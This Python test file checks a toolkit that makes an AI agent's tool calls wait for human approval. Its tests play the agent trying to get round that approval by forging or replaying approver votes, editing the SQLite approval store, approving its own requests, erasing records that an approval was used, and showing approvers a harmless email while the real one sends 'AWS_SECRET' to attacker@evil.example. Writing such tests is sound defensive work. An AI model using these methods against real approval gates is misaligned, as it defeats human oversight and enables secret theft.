"""Attacks on approvals by the governed agent, which can write the approval store (SQLite file or memory
object), run the `agt` CLI, and call its tools again with any approval id. None of them may run a tool."""

from __future__ import annotations

import asyncio
import json
import sqlite3
import threading
import time
from dataclasses import replace
from pathlib import Path

import pytest
from click.testing import CliRunner

from agt.cli import EXIT_ERROR, cli
from agt.engines.yaml import YamlEngine
from agt.errors import ApprovalRequired, GovernanceDenied
from agt.runtime.approvals import ApprovalError
from agt.identity import EnvelopeVerifier, IdentityKeys
from agt.runtime import ApproverRegistry, Governor, SqliteApprovals
from agt.runtime.approvals import MemoryApprovals, cast_vote
from agt.runtime.votes import sign_vote
from approval_helpers import Approvers, resolve_when_pending

ROOT = Path(__file__).resolve().parents[2]
STARTER = str(ROOT / "policies" / "starter.yaml")
EMAIL = {"to": "cfo@example.com", "body": "Q3 numbers"}


def write_policy(tmp_path: Path, rules: list[dict], name: str = "policy.yaml") -> str:
    lines = ["apiVersion: governance.toolkit/v1", "name: test", "default_action: allow", "rules:"]
    lines += ["  - " + json.dumps(r) for r in rules]
    path = tmp_path / name
    path.write_text("\n".join(lines) + "\n")
    return str(path)


class Mailer:
    """The agent's email tool, through a Governor; ``sent`` is what really went out."""

    def __init__(self, gov: Governor, agent: str = "mailer") -> None:
        self.gov, self.agent, self.sent = gov, agent, []

    def send_email(self, to: str, body: str) -> str:
        self.sent.append(to)
        return f"sent to {to}"

    def call(self, approval_id: str | None = None, **params):
        return self.gov.call(self.send_email, kwargs=params or dict(EMAIL), agent=self.agent, approval_id=approval_id)

    def request(self, **params) -> str:
        """Ask (non-blocking) and return the pending request id."""
        with pytest.raises(ApprovalRequired) as info:
            self.call(**params)
        return info.value.request_id


@pytest.fixture
def approvers():
    return Approvers("comms-lead", "ops")


@pytest.fixture
def sqlite_gov(tmp_path, approvers):
    return Governor("yaml", STARTER, approvals=SqliteApprovals(tmp_path / "approvals.db"), approvers=approvers.registry,
                    blocking_approvals=False)


def still_pending(mailer: Mailer, rid: str, **params) -> None:
    """The approval id unlocks nothing: the call asks again, and no mail went out."""
    with pytest.raises(ApprovalRequired):
        mailer.call(approval_id=rid, **params)
    assert mailer.sent == []


def agent_runs_agt(*args: str):
    return CliRunner().invoke(cli, list(args))


def denied_rule(fn) -> str:
    with pytest.raises(GovernanceDenied) as info:
        fn()
    return info.value.rule_ids[0]


# --- writing into the store ----------------------------------------------------------------------


def test_an_approved_status_written_into_the_sqlite_store_runs_nothing(tmp_path, sqlite_gov):
    mailer = Mailer(sqlite_gov)
    rid = mailer.request()
    with sqlite3.connect(tmp_path / "approvals.db") as db:  # what the agent's shell can do to the file
        (body,) = db.execute("SELECT body FROM approvals WHERE id = ?", (rid,)).fetchone()
        doc = {**json.loads(body), "status": "approved", "approvals": ["comms-lead"]}
        db.execute("UPDATE approvals SET body = ? WHERE id = ?", (json.dumps(doc), rid))
    still_pending(mailer, rid)


def test_a_vote_forged_with_the_agents_own_key_in_the_sqlite_store_runs_nothing(tmp_path, sqlite_gov):
    mailer = Mailer(sqlite_gov)
    rid = mailer.request()
    req = sqlite_gov.approvals.get(rid)
    forger = IdentityKeys.generate("comms-lead")  # right name, wrong key
    vote = sign_vote(forger, request_id=rid, digest=req.digest, agent_id="mailer", approve=True,
                     issued_at=time.time(), expires_at=time.time() + 600)
    with sqlite3.connect(tmp_path / "approvals.db") as db:
        db.execute("INSERT INTO approval_votes (request_id, body) VALUES (?, ?)", (rid, json.dumps(vote.to_dict())))
    still_pending(mailer, rid)
    assert "registered key" in sqlite_gov.approval_status(rid).ignored[0]


def test_a_vote_object_put_into_a_memory_store_counts_for_nothing(approvers):
    store = MemoryApprovals()
    gov = Governor("yaml", STARTER, approvals=store, approvers=approvers.registry, blocking_approvals=False)
    mailer = Mailer(gov)
    rid = mailer.request()
    req = store.get(rid)
    store._items[rid] = replace(req, votes=({"approver": "comms-lead", "approve": True, "status": "approved"},))  # noqa: SLF001
    still_pending(mailer, rid)


# --- the CLI without the approver's key ----------------------------------------------------------


def test_agt_approvals_approve_without_the_approvers_key_is_refused(tmp_path, sqlite_gov, monkeypatch):
    mailer = Mailer(sqlite_gov)
    rid = mailer.request()
    # The agent's view: the approver key store lives elsewhere (another OS user), so the agent's is empty.
    monkeypatch.setenv("HOME", str(tmp_path / "agent-home"))
    monkeypatch.delenv("AGT_APPROVER_KEYS", raising=False)
    result = agent_runs_agt("approvals", "approve", rid, "--as", "comms-lead", "--db", str(tmp_path / "approvals.db"))
    assert result.exit_code == EXIT_ERROR, result.output
    assert "no key for approver 'comms-lead'" in result.output
    still_pending(mailer, rid)


def test_agt_approvals_approve_with_a_key_the_agent_made_itself_counts_for_nothing(tmp_path, sqlite_gov, monkeypatch):
    mailer = Mailer(sqlite_gov)
    rid = mailer.request()
    monkeypatch.setenv("AGT_APPROVER_KEYS", str(tmp_path / "agent-made-keys"))
    assert agent_runs_agt("approvals", "keygen", "comms-lead").exit_code == 0
    result = agent_runs_agt("approvals", "approve", rid, "--as", "comms-lead", "--db", str(tmp_path / "approvals.db"))
    assert result.exit_code == 0, result.output  # the vote is signed and stored ...
    still_pending(mailer, rid)  # ... and worthless: its key is not the one in the Governor's registry


# --- the requesting agent votes ------------------------------------------------------------------


def test_the_requesting_agent_cannot_approve_its_own_request_by_name(tmp_path):
    # The agent holds an approver key of its own (it is an approver for others), and the rule names no approvers.
    team = Approvers("mailer", "ops")
    policy = write_policy(tmp_path, [{"name": "ask", "condition": "tool_name == 'send_email'", "action": "require_approval"}])
    gov = Governor("yaml", policy, approvers=team.registry, blocking_approvals=False)
    mailer = Mailer(gov)
    rid = mailer.request()
    store = gov.approvals
    req = store.get(rid)
    vote = sign_vote(team.keys["mailer"], request_id=rid, digest=req.digest, agent_id="mailer", approve=True,
                     issued_at=time.time(), expires_at=time.time() + 600)
    store.add_vote(rid, vote)  # past cast_vote, which refuses it too
    still_pending(mailer, rid)
    assert "own request" in gov.approval_status(rid).ignored[0]


def test_the_requesting_agent_cannot_approve_with_its_identity_key_under_an_approvers_name():
    agent_keys = IdentityKeys.generate("mailer")
    as_approver = IdentityKeys.from_pem("comms-lead", agent_keys.to_pem())  # the same key, named comms-lead
    registry = ApproverRegistry({"comms-lead": as_approver.identity})
    identity = EnvelopeVerifier(resolve={"mailer": agent_keys.did}.get)
    gov = Governor("yaml", STARTER, approvers=registry, identity=identity, blocking_approvals=False)
    mailer = Mailer(gov)
    # With the agent's key as the only approver key, nobody else can ever approve: refused at once.
    assert denied_rule(mailer.call) == "approval-unavailable"
    assert mailer.sent == []


def test_a_self_vote_by_key_is_ignored_when_other_approvers_exist(tmp_path):
    agent_keys = IdentityKeys.generate("mailer")
    as_approver = IdentityKeys.from_pem("comms-lead", agent_keys.to_pem())
    registry = ApproverRegistry({"comms-lead": as_approver.identity, "ops": IdentityKeys.generate("ops").identity})
    policy = write_policy(tmp_path, [{"name": "ask", "condition": "tool_name == 'send_email'", "action": "require_approval"}])
    gov = Governor("yaml", policy, approvers=registry, identity=EnvelopeVerifier(resolve={"mailer": agent_keys.did}.get),
                   blocking_approvals=False)
    mailer = Mailer(gov)
    rid = mailer.request()
    req = gov.approvals.get(rid)
    gov.approvals.add_vote(rid, sign_vote(as_approver, request_id=rid, digest=req.digest, agent_id="mailer",
                                          approve=True, issued_at=time.time(), expires_at=time.time() + 600))
    still_pending(mailer, rid)
    assert "own request" in gov.approval_status(rid).ignored[0]


# --- keys, replays, reuse, expiry ----------------------------------------------------------------


def test_a_vote_signed_by_a_key_not_in_the_registry_is_ignored(sqlite_gov):
    outsider = Approvers("comms-lead")  # a real key pair named comms-lead, but not the registered one
    mailer = Mailer(sqlite_gov)
    rid = mailer.request()
    outsider.vote(sqlite_gov.approvals, rid, "comms-lead")
    still_pending(mailer, rid)


def test_a_vote_for_request_a_replayed_on_request_b_is_ignored(sqlite_gov, approvers):
    mailer = Mailer(sqlite_gov)
    a = mailer.request()
    b = mailer.request()  # the same action, asked again
    vote = approvers.vote(sqlite_gov.approvals, a, "comms-lead")
    sqlite_gov.approvals.add_vote(b, vote)
    still_pending(mailer, b)
    assert "for request" in sqlite_gov.approval_status(b).ignored[0]


def test_a_vote_replayed_onto_a_request_for_a_different_action_is_ignored(sqlite_gov, approvers):
    mailer = Mailer(sqlite_gov)
    harmless = mailer.request(to="cfo@example.com", body="Q3 numbers")
    evil = mailer.request(to="rival@elsewhere.example", body="the secrets")
    vote = approvers.vote(sqlite_gov.approvals, harmless, "comms-lead")
    forged = sign_vote(approvers.keys["comms-lead"], request_id=evil, digest=vote.digest, agent_id="mailer",
                       approve=True, issued_at=time.time(), expires_at=time.time() + 600)
    sqlite_gov.approvals.add_vote(evil, forged)  # a real signature, but over the harmless action's digest
    still_pending(mailer, evil, to="rival@elsewhere.example", body="the secrets")


def test_an_approval_id_used_twice_runs_the_tool_once(sqlite_gov, approvers):
    mailer = Mailer(sqlite_gov)
    rid = mailer.request()
    approvers.vote(sqlite_gov.approvals, rid, "comms-lead")
    assert mailer.call(approval_id=rid) == "sent to cfo@example.com"
    assert denied_rule(lambda: mailer.call(approval_id=rid)) == "approval-consumed"
    assert mailer.sent == ["cfo@example.com"]


def test_deleting_the_use_mark_from_the_store_does_not_reopen_an_approval(tmp_path, sqlite_gov, approvers):
    mailer = Mailer(sqlite_gov)
    rid = mailer.request()
    approvers.vote(sqlite_gov.approvals, rid, "comms-lead")
    mailer.call(approval_id=rid)
    with sqlite3.connect(tmp_path / "approvals.db") as db:
        db.execute("DELETE FROM approval_uses")
    assert denied_rule(lambda: mailer.call(approval_id=rid)) == "approval-consumed"
    assert mailer.sent == ["cfo@example.com"]


def test_concurrent_calls_with_one_approval_run_the_tool_once(approvers):
    gov = Governor("yaml", STARTER, approvers=approvers.registry, blocking_approvals=False)
    mailer = Mailer(gov)
    rid = mailer.request()
    approvers.vote(gov.approvals, rid, "comms-lead")
    outcomes: list[str] = []

    def attempt() -> None:
        try:
            mailer.call(approval_id=rid)
            outcomes.append("ran")
        except GovernanceDenied as exc:
            outcomes.append(exc.rule_ids[0])

    threads = [threading.Thread(target=attempt) for _ in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert sorted(outcomes) == ["approval-consumed"] * 7 + ["ran"]
    assert len(mailer.sent) == 1


def test_a_vote_cast_after_the_deadline_is_ignored(approvers):
    gov = Governor("yaml", STARTER, approvers=approvers.registry, blocking_approvals=False, approval_timeout=60.0)
    mailer = Mailer(gov)
    rid = mailer.request()
    req = gov.approvals.get(rid)
    now = time.time()
    gov._issued[rid] = replace(gov._issued[rid], deadline=now - 10)  # noqa: SLF001 - the request timed out 10 s ago
    late = sign_vote(approvers.keys["comms-lead"], request_id=rid, digest=req.digest, agent_id="mailer", approve=True,
                     issued_at=now - 5, expires_at=now + 3600)
    gov.approvals.add_vote(rid, late)
    with pytest.raises(GovernanceDenied) as info:
        mailer.call(approval_id=rid)
    assert info.value.rule_ids == ("approval-expired",)
    assert "after the request's deadline" in info.value.decision.reasons[0].message
    assert mailer.sent == []


def test_an_approval_past_its_validity_window_is_refused(approvers):
    gov = Governor("yaml", STARTER, approvers=approvers.registry, blocking_approvals=False, approval_validity=60.0)
    mailer = Mailer(gov)
    rid = mailer.request()
    req = gov.approvals.get(rid)
    long_ago = time.time() - 120  # approved two minutes ago, inside the request's deadline, outside the window
    gov.approvals.add_vote(rid, sign_vote(approvers.keys["comms-lead"], request_id=rid, digest=req.digest,
                                          agent_id="mailer", approve=True, issued_at=long_ago, expires_at=long_ago + 3600))
    gov._issued[rid] = replace(gov._issued[rid], deadline=time.time() + 300)  # noqa: SLF001
    assert denied_rule(lambda: mailer.call(approval_id=rid)) == "approval-expired"
    assert mailer.sent == []


def test_an_approval_past_the_request_deadline_is_refused(approvers):
    gov = Governor("yaml", STARTER, approvers=approvers.registry, blocking_approvals=False, approval_timeout=300.0)
    mailer = Mailer(gov)
    rid = mailer.request()
    approvers.vote(gov.approvals, rid, "comms-lead")
    gov._issued[rid] = replace(gov._issued[rid], deadline=time.time() - 1)  # noqa: SLF001 - the deadline has passed
    assert denied_rule(lambda: mailer.call(approval_id=rid)) == "approval-expired"
    assert mailer.sent == []


def test_extending_the_deadline_in_the_store_does_not_extend_the_approval(tmp_path, approvers):
    gov = Governor("yaml", STARTER, approvals=SqliteApprovals(tmp_path / "a.db"), approvers=approvers.registry,
                   blocking_approvals=False, approval_timeout=300.0)
    mailer = Mailer(gov)
    rid = mailer.request()
    approvers.vote(gov.approvals, rid, "comms-lead")
    gov._issued[rid] = replace(gov._issued[rid], deadline=time.time() - 1)  # noqa: SLF001 - the deadline has passed
    with sqlite3.connect(tmp_path / "a.db") as db:
        (body,) = db.execute("SELECT body FROM approvals WHERE id = ?", (rid,)).fetchone()
        db.execute("UPDATE approvals SET body = ? WHERE id = ?", (json.dumps({**json.loads(body), "expires_at": 4e9}), rid))
    assert denied_rule(lambda: mailer.call(approval_id=rid)) == "approval-expired"
    assert mailer.sent == []


# --- rules without approvers ---------------------------------------------------------------------


def test_a_rule_without_approvers_is_not_approved_by_a_name_the_governor_does_not_know(tmp_path, approvers):
    policy = write_policy(tmp_path, [{"name": "ask", "condition": "tool_name == 'send_email'", "action": "require_approval"}])
    gov = Governor("yaml", policy, approvals=SqliteApprovals(tmp_path / "a.db"), approvers=approvers.registry,
                   blocking_approvals=False)
    mailer = Mailer(gov)
    rid = mailer.request()
    stranger = Approvers("anyone")
    stranger.vote(gov.approvals, rid, "anyone")  # a well-signed vote by a name outside the registry
    still_pending(mailer, rid)
    assert "not in the approver registry" in gov.approval_status(rid).ignored[0]


def test_a_governor_without_a_registry_approves_nothing():
    gov = Governor("yaml", STARTER, blocking_approvals=False)
    mailer = Mailer(gov)
    assert denied_rule(mailer.call) == "approval-unavailable"
    assert mailer.sent == []


# --- the world changes during the wait -----------------------------------------------------------


def during_the_wait(gov: Governor, approvers: Approvers, change) -> threading.Thread:
    """Once the request exists: ``change()`` (an operator, a policy update), then comms-lead approves."""

    def run() -> None:
        while not gov.approvals.list():
            time.sleep(0.005)
        change()
        cast_vote(gov.approvals, gov.approvals.list()[0].id, approvers.keys["comms-lead"], True)

    t = threading.Thread(target=run, daemon=True)
    t.start()
    return t


def test_kill_switch_flipped_during_the_wait_stops_the_tool(approvers):
    gov = Governor("yaml", STARTER, approvers=approvers.registry, approval_timeout=60.0)
    mailer = Mailer(gov)

    t = during_the_wait(gov, approvers, lambda: gov.kill("mailer"))
    assert denied_rule(mailer.call) == "kill-switch"
    t.join()
    assert mailer.sent == []


def test_kill_switch_flipped_during_an_async_wait_stops_the_tool(approvers):
    gov = Governor("yaml", STARTER, approvers=approvers.registry, approval_timeout=60.0)
    sent: list[str] = []

    async def send_email(to: str, body: str) -> str:
        sent.append(to)
        return "sent"

    async def main():
        async def operator_then_approver():
            while not gov.approvals.list():
                await asyncio.sleep(0.005)
            gov.kill("mailer")
            cast_vote(gov.approvals, gov.approvals.list()[0].id, approvers.keys["comms-lead"], True)

        await asyncio.gather(gov.acall(send_email, kwargs=dict(EMAIL), agent="mailer"), operator_then_approver())

    assert denied_rule(lambda: asyncio.run(main())) == "kill-switch"
    assert sent == []


def test_policy_changed_to_deny_during_the_wait_stops_the_tool(tmp_path, approvers):
    gov = Governor("yaml", STARTER, approvers=approvers.registry, approval_timeout=60.0)
    mailer = Mailer(gov)
    deny_email = YamlEngine(write_policy(tmp_path, [{"name": "no-email-now", "condition": "tool_name == 'send_email'",
                                                     "action": "deny"}]))

    t = during_the_wait(gov, approvers, lambda: setattr(gov, "engine", deny_email))  # a policy update lands
    assert denied_rule(mailer.call) == "no-email-now"
    t.join()
    assert mailer.sent == []


def test_policy_changed_to_other_approvers_during_the_wait_stops_the_tool(tmp_path, approvers):
    gov = Governor("yaml", STARTER, approvers=approvers.registry, approval_timeout=60.0)
    mailer = Mailer(gov)
    ops_only = YamlEngine(write_policy(tmp_path, [{"name": "email-approval", "condition": "tool_name == 'send_email'",
                                                   "action": "require_approval", "approvers": ["ops"]}]))

    t = during_the_wait(gov, approvers, lambda: setattr(gov, "engine", ops_only))
    assert denied_rule(mailer.call) == "approval-stale"
    t.join()
    assert mailer.sent == []


def test_an_honest_blocking_approval_still_runs_the_tool_once(approvers):
    gov = Governor("yaml", STARTER, approvers=approvers.registry, approval_timeout=60.0)
    mailer = Mailer(gov)
    t = resolve_when_pending(gov, approvers, "comms-lead", approve=True)
    assert mailer.call() == "sent to cfo@example.com"
    t.join()
    assert mailer.sent == ["cfo@example.com"]


# --- showing the approver one call and approving another ------------------------------------------


def _rewrite_shown_params(db_path: Path, rid: str, params: dict) -> None:
    """The agent edits what `agt approvals show` displays, leaving the digest of the real call in place."""
    with sqlite3.connect(db_path) as db:
        (body,) = db.execute("SELECT body FROM approvals WHERE id = ?", (rid,)).fetchone()
        doc = json.loads(body)
        doc["action"]["document"]["action"]["params"] = params
        db.execute("UPDATE approvals SET body = ? WHERE id = ?", (json.dumps(doc), rid))


HARMLESS = {"to": "boss@example.com", "body": "weekly report"}


def test_a_vote_on_a_request_whose_shown_action_was_edited_is_refused(tmp_path, sqlite_gov, approvers):
    mailer = Mailer(sqlite_gov)
    rid = mailer.request(to="attacker@evil.example", body="AWS_SECRET=...")
    _rewrite_shown_params(tmp_path / "approvals.db", rid, HARMLESS)
    with pytest.raises(ApprovalError, match="edited in the store"):
        approvers.vote(sqlite_gov.approvals, rid, "comms-lead")
    still_pending(mailer, rid, to="attacker@evil.example", body="AWS_SECRET=...")


def test_agt_approvals_show_flags_a_request_whose_action_was_edited(tmp_path, sqlite_gov):
    mailer = Mailer(sqlite_gov)
    rid = mailer.request(to="attacker@evil.example", body="AWS_SECRET=...")
    _rewrite_shown_params(tmp_path / "approvals.db", rid, HARMLESS)
    result = agent_runs_agt("approvals", "show", rid, "--db", str(tmp_path / "approvals.db"))
    assert result.exit_code == EXIT_ERROR
    assert "do not approve it" in result.output


def test_agt_approvals_show_passes_an_untouched_request(tmp_path, sqlite_gov):
    rid = Mailer(sqlite_gov).request()
    result = agent_runs_agt("approvals", "show", rid, "--db", str(tmp_path / "approvals.db"))
    assert result.exit_code == 0, result.output
    assert json.loads(result.output)["tampered"] is None


def test_an_approval_used_once_cannot_be_used_again_by_a_restarted_governor(tmp_path, sqlite_gov, approvers):
    mailer = Mailer(sqlite_gov)
    rid = mailer.request()
    approvers.vote(sqlite_gov.approvals, rid, "comms-lead")
    mailer.call(approval_id=rid)
    with sqlite3.connect(tmp_path / "approvals.db") as db:  # the agent erases the record of that use
        db.execute("DELETE FROM approval_uses")
    restarted = Governor("yaml", STARTER, approvals=SqliteApprovals(tmp_path / "approvals.db"),
                         approvers=approvers.registry, blocking_approvals=False)
    again = Mailer(restarted)
    assert denied_rule(lambda: again.call(approval_id=rid)) == "approval-foreign"
    assert again.sent == []
